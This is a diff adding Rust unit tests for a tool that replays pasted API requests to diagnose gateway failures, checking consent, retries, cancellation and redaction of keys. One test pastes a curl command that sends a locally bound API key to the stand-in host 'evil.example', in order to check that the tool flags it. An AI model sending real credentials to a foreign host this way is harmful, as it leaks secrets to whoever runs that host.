@@ -1,1 +1,341 @@
 //! The walk, event by event. No IO, no async.
+
+use chrono::{DateTime, TimeDelta, Utc};
+use secrecy::SecretString;
+
+use super::*;
+use crate::case::evidence::{
+    Attempt, BodyEnd, Outcome, Response, Source, StreamRecord, Timing, TransportFailure,
+};
+use crate::case::keyring::Origin;
+use crate::case::vocabulary::{FailureClass, RetryDecision, StreamVerdict, TransportKind};
+
+fn at(seconds: i64) -> DateTime<Utc> {
+    DateTime::parse_from_rfc3339("2026-11-20T10:15:00Z").expect("valid").with_timezone(&Utc)
+        + TimeDelta::seconds(seconds)
+}
+
+fn session() -> Session {
+    Session::new(
+        Catalog::built_in(),
+        Settings {
+            policy: Policy::default(),
+            timeouts: Timeouts::default(),
+            operator: "op".into(),
+            audience: Audience::Internal,
+            format: Format::Yaml,
+            tool: "casefile test".into(),
+            os: "linux".into(),
+            proxy_for: |_, _| false,
+            default_base: None,
+            confirm_first: true,
+            seed: 1,
+        },
+    )
+}
+
+fn key(letter: char) -> String {
+    format!("sk-{}", format!("{letter}7Qz").repeat(12))
+}
+
+fn paste(host: &str, key: &str) -> String {
+    format!(
+        "curl https://{host}/v1/chat/completions -H 'Authorization: Bearer {key}' -H 'Content-Type: application/json' \
+         -d '{{\"model\":\"gpt-x\",\"messages\":[{{\"role\":\"user\",\"content\":\"tell me about zebras at dawn\"}}]}}'"
+    )
+}
+
+fn answer(index: u32, status: u16, headers: &[(&str, &str)], body: &str) -> Attempt {
+    let mut all = vec![("content-type".to_owned(), "application/json".to_owned())];
+    all.extend(headers.iter().map(|(n, v)| ((*n).to_owned(), (*v).to_owned())));
+    Attempt {
+        index,
+        source: Source::Sent,
+        at: Some(at(0)),
+        outcome: Outcome::Response(Response {
+            status: Some(status),
+            headers: all,
+            body: body.as_bytes().to_vec(),
+            body_bytes: body.len() as u64,
+            ..Response::default()
+        }),
+        timing: Timing { total_ms: Some(5), ..Timing::default() },
+        waited_ms: None,
+        decision: None,
+        reason: String::new(),
+        request_bytes: 10,
+    }
+}
+
+fn failure(index: u32, kind: TransportKind) -> Attempt {
+    let outcome = Outcome::Transport(TransportFailure { kind, detail: "detail".into() });
+    Attempt { outcome, ..answer(index, 200, &[], "") }
+}
+
+/// Pastes, asks, consents; gives what was sent.
+fn begin(session: &mut Session, host: &str) -> Outgoing {
+    session.handle(Event::Pasted(paste(host, &key('a'))), at(0));
+    session.handle(Event::SendRequested, at(0));
+    assert!(session.consent().is_some(), "{:?}", session.notice());
+    sent(session.handle(Event::ConsentGiven { remember: true }, at(0)))
+}
+
+fn sent(effects: Vec<Effect>) -> Outgoing {
+    effects
+        .into_iter()
+        .find_map(|e| if let Effect::Send(outgoing) = e { Some(*outgoing) } else { None })
+        .expect("something is sent")
+}
+
+fn waits(effects: &[Effect]) -> Option<(u64, u64)> {
+    effects.iter().find_map(|e| if let Effect::Wait { ms, token } = e { Some((*ms, *token)) } else { None })
+}
+
+const UNKNOWN_MODEL: &str = r#"{"error":{"code":"model_not_found","message":"No available channel for model gpt-x under group default (distributor) (request id: 20260205132859798638387SIHCnxzJ)","type":"new_api_error"}}"#;
+const SATURATED: &str = r#"{"error":{"message":"Rate limit reached, slow down","type":"rate_limit_error","param":null,"code":"rate_limit_exceeded"}}"#;
+
+#[test]
+fn nothing_is_sent_without_consent() {
+    let mut s = session();
+    s.handle(Event::Pasted(paste("api.cometapi.com", &key('a'))), at(0));
+    let effects = s.handle(Event::SendRequested, at(0));
+    assert!(effects.is_empty());
+    let consent = s.consent().expect("asks");
+    assert_eq!(
+        (consent.host.as_str(), consent.method.as_str(), consent.most_requests),
+        ("api.cometapi.com", "POST", 3)
+    );
+    assert!(consent.headers.iter().all(|h| !h.value.contains("7Qz")), "keys are masked");
+    assert!(s.handle(Event::ConsentRefused, at(0)).is_empty());
+    assert!(s.consent().is_none() && !s.is_busy());
+}
+
+#[test]
+fn a_failure_becomes_a_note_after_confirmation() {
+    let mut s = session();
+    let outgoing = begin(&mut s, "api.cometapi.com");
+    assert_eq!(outgoing.index, 1);
+    s.handle(
+        Event::AttemptDone(Box::new(answer(
+            1,
+            401,
+            &[],
+            r#"{"error":{"code":"","message":"invalid token","type":"comet_api_error"}}"#,
+        ))),
+        at(1),
+    );
+    assert_eq!(s.diagnosis().map(|d| d.class), Some(FailureClass::Auth));
+    assert_eq!(s.evidence().attempts[0].decision, Some(RetryDecision::NotRetried));
+    s.handle(Event::GoTo(Step::Note), at(2));
+    assert!(s.handle(Event::CopyRequested, at(2)).is_empty(), "not confirmed yet");
+    assert!(s.notice().is_some_and(|n| n.text.contains("confirm")));
+    s.handle(Event::Confirmed(true), at(3));
+    let effects = s.handle(Event::CopyRequested, at(3));
+    let [Effect::Copy(rendered)] = effects.as_slice() else { panic!("copies: {effects:?}") };
+    assert_eq!(
+        Some(rendered),
+        s.output().and_then(|o| o.rendered.as_ref().ok()),
+        "the preview is what is copied"
+    );
+    for secret in ["7Qz", "zebras"] {
+        assert!(!rendered.as_str().contains(secret), "{secret}");
+    }
+    assert!(rendered.as_str().contains("invalid token"));
+}
+
+#[test]
+fn a_rate_limit_is_retried_with_what_the_server_asks() {
+    let mut s = session();
+    begin(&mut s, "api.cometapi.com");
+    let effects =
+        s.handle(Event::AttemptDone(Box::new(answer(1, 429, &[("retry-after", "7")], SATURATED))), at(0));
+    let (ms, token) = waits(&effects).expect("waits");
+    assert_eq!(ms, 7_000);
+    assert!(s.handle(Event::WaitOver(token + 1), at(7)).is_empty(), "a stale wait changes nothing");
+    let again = sent(s.handle(Event::WaitOver(token), at(7)));
+    assert_eq!((again.index, again.waited_ms), (2, Some(7_000)));
+    let effects = s.handle(
+        Event::AttemptDone(Box::new(answer(
+            2,
+            200,
+            &[],
+            r#"{"choices":[{"message":{"role":"assistant","content":"hi"},"finish_reason":"stop"}]}"#,
+        ))),
+        at(8),
+    );
+    assert!(effects.is_empty());
+    let decisions: Vec<_> = s.evidence().attempts.iter().map(|a| a.decision).collect();
+    assert_eq!(decisions, [Some(RetryDecision::Retried), Some(RetryDecision::Succeeded)]);
+    assert_eq!(s.diagnosis().map(|d| d.class), Some(FailureClass::None));
+}
+
+#[test]
+fn waiting_can_be_skipped_or_stopped() {
+    let mut s = session();
+    begin(&mut s, "api.cometapi.com");
+    s.handle(Event::AttemptDone(Box::new(answer(1, 429, &[("retry-after", "9")], SATURATED))), at(0));
+    assert_eq!(sent(s.handle(Event::SkipWait, at(2))).waited_ms, Some(2_000));
+    s.handle(Event::AttemptDone(Box::new(answer(2, 429, &[("retry-after", "9")], SATURATED))), at(3));
+    assert!(s.handle(Event::StopRetrying, at(4)).is_empty());
+    assert!(!s.is_busy());
+    assert_eq!(s.evidence().attempts[1].decision, Some(RetryDecision::StoppedByOperator));
+}
+
+#[test]
+fn cancelling_is_in_the_record_and_ends_the_run() {
+    let mut s = session();
+    begin(&mut s, "api.cometapi.com");
+    assert!(matches!(s.handle(Event::Cancel, at(1)).as_slice(), [Effect::CancelSend]));
+    assert!(s.handle(Event::AttemptDone(Box::new(failure(1, TransportKind::Cancelled))), at(1)).is_empty());
+    assert_eq!(s.evidence().attempts[0].decision, Some(RetryDecision::StoppedByOperator));
+    assert!(s.handle(Event::AttemptDone(Box::new(failure(1, TransportKind::Reset))), at(2)).is_empty());
+    assert_eq!(s.evidence().attempts.len(), 1, "a late event of a run that is over changes nothing");
+}
+
+#[test]
+fn a_partial_answer_is_not_retried() {
+    let mut s = session();
+    begin(&mut s, "api.cometapi.com");
+    let mut attempt = answer(1, 200, &[], "data: {}\n\n");
+    if let Outcome::Response(response) = &mut attempt.outcome {
+        response.headers[0].1 = "text/event-stream".into();
+        response.end = BodyEnd::Cut(TransportFailure { kind: TransportKind::Reset, detail: String::new() });
+        response.stream = Some(StreamRecord {
+            events: 3,
+            bytes: 90,
+            comments: 0,
+            terminal_marker: None,
+            finish_reason: None,
+            usage_seen: false,
+            error_event: None,
+            content_chars: 12,
+            tool_calls: false,
+            model: None,
+            faults: 0,
+            longest_gap_ms: None,
+            verdict: StreamVerdict::Truncated,
+        });
+    }
+    assert!(s.handle(Event::AttemptDone(Box::new(attempt)), at(1)).is_empty());
+    assert_eq!(s.evidence().attempts[0].decision, Some(RetryDecision::NotRetried));
+    assert_eq!(s.diagnosis().map(|d| d.class), Some(FailureClass::StreamInterrupted));
+}
+
+#[test]
+fn a_key_of_the_environment_is_bound_to_its_host() {
+    let mut s = session();
+    s.handle(
+        Event::BindingsRead(vec![Binding { key: "GATEWAY_KEY".into(), host: "api.cometapi.com".into() }]),
+        at(0),
+    );
+    let text = paste("evil.example", "$GATEWAY_KEY").replace('\'', "\"").replace("{\"", "{\\\"");
+    let effects = s.handle(Event::Pasted(text), at(0));
+    let [Effect::ReadEnvironment(names)] = effects.as_slice() else {
+        panic!("asks for the variable: {effects:?}")
+    };
+    assert_eq!(names, &["GATEWAY_KEY"]);
+    s.handle(Event::EnvironmentRead(vec![("GATEWAY_KEY".into(), Some(SecretString::from(key('b'))))]), at(0));
+    s.handle(Event::SendRequested, at(0));
+    let consent = s.consent().expect("asks");
+    assert!(consent.keys.iter().any(KeyUse::is_elsewhere), "{:?}", consent.keys);
+    let effects = s.handle(Event::ConsentGiven { remember: true }, at(0));
+    assert!(effects.iter().any(|e| matches!(e, Effect::RememberBinding(b) if b.host == "evil.example")));
+}
+
+#[test]
+fn an_unset_variable_is_told_and_a_given_key_takes_its_place() {
+    let mut s = session();
+    s.handle(
+        Event::Pasted("curl https://api.cometapi.com/v1/models -H \"Authorization: Bearer $NOT_SET\"".into()),
+        at(0),
+    );
+    s.handle(Event::EnvironmentRead(vec![("NOT_SET".into(), None)]), at(0));
+    s.handle(Event::SendRequested, at(0));
+    assert!(s.notice().is_some_and(|n| n.text.contains("NOT_SET")), "{:?}", s.notice());
+    s.handle(Event::KeyGiven { origin: Origin::Given("typed"), value: SecretString::from(key('c')) }, at(0));
+    s.handle(Event::SendRequested, at(0));
+    let consent = s.consent().expect("asks");
+    assert_eq!(
+        consent
+            .headers
+            .iter()
+            .find(|h| h.name.eq_ignore_ascii_case("authorization"))
+            .map(|h| h.value.as_str()),
+        Some("Bearer [key#1]")
+    );
+}
+
+#[test]
+fn an_error_text_alone_makes_a_note() {
+    let mut s = session();
+    s.handle(Event::Pasted(UNKNOWN_MODEL.into()), at(0));
+    assert_eq!(s.diagnosis().map(|d| d.class), Some(FailureClass::ModelUnavailable));
+    s.handle(Event::GoTo(Step::Review), at(0));
+    let output = s.output().expect("a note");
+    assert!(!output.note.missing_evidence.is_empty());
+    assert_eq!(s.standing(Step::Reproduce), Standing::Optional);
+}
+
+#[test]
+fn a_useless_paste_keeps_what_was_there() {
+    let mut s = session();
+    s.handle(Event::Pasted(paste("api.cometapi.com", &key('a'))), at(0));
+    let before = s.draft().clone();
+    s.handle(Event::Pasted("   ".into()), at(0));
+    assert!(s.draft() == &before);
+    assert!(s.notice().is_some_and(|n| n.level == Level::Error));
+}
+
+#[test]
+fn a_typed_key_is_masked_at_once() {
+    let mut s = session();
+    let draft = Draft {
+        method: "POST".into(),
+        url: "https://api.cometapi.com/v1/chat/completions".into(),
+        headers: vec![crate::case::request::Header::new("Authorization", format!("Bearer {}", key('d')))],
+        body: "{}".into(),
+    };
+    s.handle(Event::Edited(draft), at(0));
+    assert_eq!(s.draft().headers[0].value, "Bearer [key#1]");
+    assert!(s.findings().iter().any(|f| f.id.contains("missing")), "{:?}", s.findings());
+}
+
+#[test]
+fn a_control_needs_a_reproduction_and_consent() {
+    let mut s = session();
+    s.handle(Event::Pasted(paste("api.cometapi.com", &key('a'))), at(0));
+    s.handle(Event::ControlRequested(ControlAsk::MinimalBody), at(0));
+    assert!(s.consent().is_none());
+    s.handle(Event::SendRequested, at(0));
+    s.handle(Event::ConsentGiven { remember: false }, at(0));
+    s.handle(Event::AttemptDone(Box::new(answer(1, 503, &[], UNKNOWN_MODEL))), at(1));
+    s.handle(Event::StopRetrying, at(1));
+    s.handle(Event::ControlRequested(ControlAsk::Model("other".into())), at(1));
+    let consent = s.consent().expect("asks");
+    assert_eq!(consent.most_requests, 1);
+    let outgoing = sent(s.handle(Event::ConsentGiven { remember: false }, at(1)));
+    assert_eq!(outgoing.request.model().as_deref(), Some("other"));
+    s.handle(Event::AttemptDone(Box::new(answer(1, 200, &[], "{}"))), at(2));
+    assert_eq!(s.evidence().controls.len(), 1);
+    assert_eq!(
+        s.diagnosis().map(|d| d.class),
+        Some(FailureClass::ModelUnavailable),
+        "a control does not change it"
+    );
+}
+
+#[test]
+fn a_key_that_the_answer_echoes_does_not_leave() {
+    let mut s = session();
+    begin(&mut s, "api.cometapi.com");
+    let body = format!(
+        r#"{{"error":{{"message":"Incorrect API key provided: {}.","type":"invalid_request_error","param":null,"code":"invalid_api_key"}}}}"#,
+        key('a')
+    );
+    s.handle(Event::AttemptDone(Box::new(answer(1, 401, &[], &body))), at(1));
+    s.handle(Event::GoTo(Step::Note), at(1));
+    let output = s.output().expect("a note");
+    let text = output.rendered.as_ref().expect("passes").as_str();
+    assert!(!text.contains("7Qz"), "{text}");
+    assert!(text.contains("Incorrect API key provided: [key#1]"), "{text}");
+}
